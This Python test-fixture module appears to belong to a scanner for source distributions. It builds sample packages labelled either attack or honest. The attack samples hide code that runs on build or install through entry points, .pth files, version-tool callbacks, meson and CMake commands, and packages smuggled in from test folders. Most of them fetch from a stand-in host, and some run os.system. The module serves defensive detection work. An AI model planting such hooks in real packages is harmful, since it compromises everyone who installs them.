"""What builds run of the tree without a setup.py that says so: version tools, build files of compilers, entry points
that setuptools finds in the tree; and packages that are kept among tests and installed under another name. None of
these has a wheel."""
import gzip

from .package import attack, elf, honest, pyc, sdists
from .reach import zipped

FETCH = '''
    import urllib.request


    def go(*args, **kw):
        return urllib.request.urlopen("https://cdn.example.net/t").read()


    go()
'''
PLAIN = "from setuptools import setup\n\nsetup(name=\"{n}\", version=\"1.0\", packages=[\"{m}\"])\n"
BACKEND = '[build-system]\nrequires = ["{0}"]\nbuild-backend = "{1}"\n'


@attack
def egg_entry_point(p):
    """Entry points of setuptools in the tree's *.egg-info, which it loads while it builds. Must be held."""
    return p.sdist(setup=PLAIN, files={
        "{m}.egg-info/entry_points.txt": "[setuptools.finalize_distribution_options]\nx = tests.helper:go\n",
        "tests/helper.py": FETCH})


@attack
def package_dir_among_tests(p):
    """package_dir of setup.py has the package lie among tests. Must be held."""
    return p.sdist(setup='''
        from setuptools import setup

        setup(name="{n}", version="1.0", packages=["{m}", "{m}_more"], package_dir={"{m}_more": "tests/more"})
        ''', files={"tests/more/__init__.py": FETCH})


@attack
def poetry_package_of_tests(p):
    """Poetry takes a package from the folder of tests. Must be held."""
    return p.sdist(pyproject=BACKEND.format("poetry-core", "poetry.core.masonry.api")
                   + '[[tool.poetry.packages]]\ninclude = "more"\nfrom = "tests"\n',
                   files={"tests/more/__init__.py": FETCH})


@attack
def hatch_start_file(p):
    """hatchling installs a text of the tree as a .pth file. Must be held."""
    return p.sdist(pyproject=BACKEND.format("hatchling", "hatchling.build")
                   + '[tool.hatch.build.targets.wheel.force-include]\n"data/notes.txt" = "a.pth"\n',
                   files={"data/notes.txt": "import os; os.system('touch /tmp/customhouse-marker')\n"})


@attack
def start_file_by_data_files(p):
    """data_files puts a .pth file of the package where Python starts with it. Must be held."""
    return p.sdist(setup='''
        from setuptools import setup

        setup(name="{n}", version="1.0", packages=["{m}"],
              data_files=[("lib/python3.12/site-packages", ["{m}/x.pth"])])
        ''', files={"{m}/x.pth": "import urllib.request; urllib.request.urlopen('https://cdn.example.net/t')\n"})


@attack
def versioningit_method(p):
    """versioningit is told a function of the tree. Must be held."""
    return p.sdist(pyproject=BACKEND.format("versioningit", "setuptools.build_meta")
                   + '[tool.versioningit.vcs]\nmethod = {module = "helper", value = "go", module-dir = "tests"}\n',
                   files={"tests/helper.py": FETCH})


@attack
def git_versioning_callback(p):
    """setuptools-git-versioning is told a function of the tree. Must be held."""
    return p.sdist(pyproject=BACKEND.format("setuptools-git-versioning", "setuptools.build_meta")
                   + '[tool.setuptools-git-versioning]\nversion_callback = "tests.helper:go"\n',
                   files={"tests/helper.py": FETCH})


@attack
def jupyter_build_function(p):
    """hatch-jupyter-builder is told a function of the tree. Must be held."""
    return p.sdist(pyproject=BACKEND.format("hatch-jupyter-builder", "hatchling.build")
                   + '[tool.hatch.build.hooks.jupyter-builder]\nbuild-function = "tests.helper.go"\n',
                   files={"tests/helper.py": FETCH})


@attack
def meson_command(p):
    """meson.build runs a script of the tests while it is configured. Must be held."""
    return p.sdist(pyproject=BACKEND.format("meson-python", "mesonpy"), files={
        "meson.build": "project('x', version: '1.0')\nrun_command('tests/helper.py', check: true)\n",
        "tests/helper.py": FETCH})


@attack
def cmake_command(p):
    """CMakeLists.txt runs a script while it is configured. Must be held."""
    return p.sdist(pyproject=BACKEND.format("scikit-build-core", "scikit_build_core.build"), files={
        "CMakeLists.txt": "project(x)\nexecute_process(COMMAND sh tools/prepare.sh)\n",
        "tools/prepare.sh": "touch /tmp/customhouse-marker\n"})


@attack
def poetry_old_build(p):
    """The build script of old poetry. Must be held."""
    return p.sdist(pyproject=BACKEND.format("poetry-core", "poetry.core.masonry.api") + '[tool.poetry]\nbuild = "build.py"\n',
                   files={"build.py": FETCH})


@attack
def module_is_a_link(p):
    """A module of the package is a link to a file among tests. Must be held."""
    return p.tarball(sdists.pack(p.sdist_members(setup=PLAIN, files={"tests/test_x.py": FETCH}),
                                 links={f"{p.module}-1.0/{p.module}/more.py": "../tests/test_x.py"}))


@attack
def package_is_a_link(p):
    """A package is a link to the folder of tests. Must be held."""
    return p.tarball(sdists.pack(p.sdist_members(setup=PLAIN, files={"tests/x.py": FETCH}),
                                 links={f"{p.module}-1.0/{p.module}_more": "tests"}))


@attack
def tests_are_installed(p):
    """setup.py installs the folder of tests as a package of its own. Must be held."""
    return p.sdist(setup='from setuptools import setup\n\nsetup(name="{n}", version="1.0", packages=["{m}", "tests"])\n',
                   files={"tests/x.py": FETCH})


@attack
def packages_are_found_among_tests(p):
    """pyproject.toml has setuptools look for packages among tests, too. Must be held."""
    return p.sdist(pyproject=BACKEND.format("setuptools", "setuptools.build_meta")
                   + '[tool.setuptools.packages.find]\nwhere = [".", "tests"]\n', files={"tests/more/__init__.py": FETCH})


@attack
def module_called_like_a_test(p):
    """setup.py installs a module whose name is that of a test. Must be held."""
    return p.sdist(setup='from setuptools import setup\n\nsetup(name="{n}", version="1.0", packages=["{m}"], py_modules=["test_{m}"])\n',
                   files={"test_{m}.py": FETCH})


@attack
def egg_among_tests_is_imported(p):
    """An egg that lies among the tests of an sdist is put on sys.path by the package. Must be held."""
    egg = zipped({"tables_more/__init__.py": b"import urllib.request\nurllib.request.urlopen('https://cdn.example.net/t').read()\n"})
    return p.sdist(files={"{m}/tests/data/more.egg": egg}, init='''
        import os
        import sys

        sys.path.insert(0, os.path.join(os.path.dirname(__file__), "tests", "data", "more.egg"))
        import tables_more
        ''')


@attack
def hatch_includes_beside_its_list(p):
    """hatchling is told which packages there are, and has another folder included by force. Must be held."""
    return p.sdist(pyproject=BACKEND.format("hatchling", "hatchling.build")
                   + f'[tool.hatch.build.targets.wheel]\npackages = ["{p.module}"]\n'
                   + f'[tool.hatch.build.targets.wheel.force-include]\n"lab" = "{p.module}/lab"\n',
                   files={"lab/run.py": FETCH})


@attack
def list_of_another_back_end(p):
    """The settings that list packages are of another back end than the one that builds. Must be held."""
    return p.sdist(pyproject=BACKEND.format("setuptools", "setuptools.build_meta")
                   + f'[tool.hatch.build.targets.wheel]\npackages = ["{p.module}"]\n',
                   files={"lab/run.py": FETCH})


@honest
def broken_files_among_tests(p):
    """Archives and programs that are broken on purpose, among the tests of an sdist."""
    return p.sdist(files={"tests/data/cut.gz": gzip.compress(b"a" * 1000)[:-9], "tests/data/old.egg": zipped({"a/__init__.pyc": pyc("a = 1\n")}),
                          "tests/data/hello-armv7l": elf()[:70], "tests/test_read.py": "def test_read():\n    assert True\n"})


@honest
def script_of_its_makers(p):
    """hatchling is told which packages there are; what lies beside them is a script for those who work on it."""
    return p.sdist(pyproject=BACKEND.format("hatchling", "hatchling.build")
                   + f'[tool.hatch.build.targets.wheel]\npackages = ["{p.module}"]\n', files={"action/main.py": FETCH})


@honest
def checked_by_tools(p):
    """Tools that check the source are told to leave the scripts out; the back end is told of a licence."""
    return p.sdist(pyproject=BACKEND.format("scikit-build-core", "scikit_build_core.build")
                   + f'[tool.scikit-build]\nwheel.packages = ["{p.module}"]\n'
                   + '[tool.scikit-build.sdist.force-include]\n"../NOTICE.txt" = "NOTICE.txt"\n'
                   + '[tool.pyright]\nexclude = ["scripts"]\n', files={"scripts/run.py": FETCH})


@attack
def hatch_lists_the_whole_tree(p):
    """hatchling is told of the package, and of all else by a dot. Must be held."""
    return p.sdist(pyproject=BACKEND.format("hatchling", "hatchling.build")
                   + f'[tool.hatch.build.targets.wheel]\npackages = ["{p.module}", "."]\n', files={"lab/run.py": FETCH})


@attack
def package_of_scripts_listed(p):
    """A folder of scripts without __init__.py is one of the packages that setup.py lists. Must be held."""
    return p.sdist(setup=PLAIN.replace('["{m}"]', '["{m}", "lab"]'), files={"lab/check.py": FETCH})


@attack
def package_of_scripts_added(p):
    """setup.py adds such a folder to what it lists. Must be held."""
    return p.sdist(setup=PLAIN.replace('["{m}"]', '["{m}"] + ["la" + "b"]'), files={"lab/check.py": FETCH})


@honest
def scripts_beside_packages(p):
    """setup.py lists the package; scripts of its makers lie beside it and fetch."""
    return p.sdist(setup=PLAIN, files={"lab/check.py": FETCH, "tools/more.py": FETCH})
